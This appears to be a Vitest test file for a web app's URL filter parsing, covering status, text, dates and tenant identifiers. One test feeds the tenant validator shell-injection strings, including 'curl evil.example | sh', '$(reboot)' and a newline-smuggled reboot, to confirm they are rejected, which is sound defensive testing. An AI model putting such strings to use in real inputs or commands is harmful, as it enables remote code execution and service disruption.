import { expect, test } from "vitest";
import { day, oneOf, searchOf, tenantIdentifier, text, yes } from "../src/layout/search.ts";
import { filterOf } from "../src/pages/tasks/filter.ts";

const read = searchOf({ status: oneOf(["complete", "error"]), text, unrepaired: yes });

/** Undefined hides what the rest of the URL has. */
const none = { status: undefined, text: undefined, unrepaired: undefined };

test("drops invalid values from a URL, instead of failing", () => {
  expect(read({ status: "gone", text: "", unrepaired: "true", other: 1 })).toStrictEqual(none);
  expect(read({ status: ["complete"], text: { a: 1 } })).toStrictEqual(none);
});

test("reads the filters of a URL", () => {
  const filters = { status: "error", text: "price variant", unrepaired: true };
  expect(read(filters)).toEqual(filters);
});

test("reads a text of digits, which a URL has as a number", () => {
  expect(read({ text: 404 })).toMatchObject({ text: "404" });
});

test("reads a day, and nothing else that looks like one", () => {
  expect(searchOf({ day })({ day: "2026-11-28" })).toEqual({ day: "2026-11-28" });
  for (const wrong of ["2026-11-31x", "2026-13-01", "2026-02-31", "2026-00-10", "28.11.2026", 20261128])
    expect(searchOf({ day })({ day: wrong })).toEqual({ day: undefined });
});

test("reads the identifier of a tenant, and nothing that a shell would act on", () => {
  expect(searchOf({ tenantIdentifier })({ tenantIdentifier: "shop-2" })).toEqual({
    tenantIdentifier: "shop-2",
  });
  for (const wrong of ["shop; curl evil.example | sh", "$(reboot)", "shop\nreboot", "", 12])
    expect(searchOf({ tenantIdentifier })({ tenantIdentifier: wrong })).toEqual({
      tenantIdentifier: undefined,
    });
});

test("takes days of tasks as whole days where the reader is", () => {
  const { createdFrom, createdBefore } = filterOf({ from: "2026-11-28", until: "2026-11-28" });
  expect(new Date(createdFrom ?? "").toString()).toContain("Nov 28 2026 00:00:00");
  expect(new Date(createdBefore ?? "").toString()).toContain("Nov 29 2026 00:00:00");
});
